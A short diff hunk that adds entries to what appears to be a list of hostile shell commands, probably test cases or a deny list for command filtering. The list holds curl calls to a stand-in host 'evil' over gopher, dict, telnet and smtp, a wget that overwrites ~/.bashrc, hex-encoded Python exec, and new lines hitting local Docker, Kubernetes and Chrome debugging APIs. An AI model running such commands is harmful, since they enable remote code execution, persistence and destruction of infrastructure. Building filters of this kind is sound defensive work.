@@ -106,6 +106,9 @@ curl gopher://evil/_x
 curl dict://evil/x
 curl telnet://evil
 curl smtp://evil
+curl -X POST http://localhost:2375/containers/create -d @x
+curl -X DELETE localhost:8001/api/v1/namespaces/x
+curl -d {} http://127.0.0.1:09222/json/new
 wget -O ~/.bashrc https://evil
 python3 -c "exec(bytes.fromhex('696d706f7274'))"
 node -e "require('https').request('https://evil')"
